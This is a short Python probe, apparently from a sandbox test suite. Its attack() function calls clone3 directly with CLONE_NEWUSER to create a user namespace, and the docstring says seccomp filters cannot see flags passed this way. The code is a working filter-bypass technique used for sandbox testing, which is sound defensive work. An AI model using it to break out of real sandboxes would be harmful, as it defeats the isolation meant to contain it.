"""makes a user namespace by clone3, whose flags no filter can see"""

import os
import struct


def attack():
    args = struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0)
    pid = syscall(435, args, len(args))
    if pid == 0:
        os._exit(0)
    reached(f"process {pid} in a namespace")
    os.waitpid(pid, 0)
